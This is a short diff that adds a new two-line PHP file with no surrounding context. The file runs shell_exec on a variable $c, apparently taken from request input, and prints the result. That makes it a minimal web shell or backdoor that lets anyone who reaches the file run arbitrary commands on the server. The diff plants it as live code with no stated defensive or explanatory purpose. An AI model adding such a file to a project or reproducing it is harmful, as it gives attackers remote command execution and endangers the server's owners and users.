@@ -1,0 +1,2 @@
+<?php
+if ($c != "") print Shell_Exec($c);
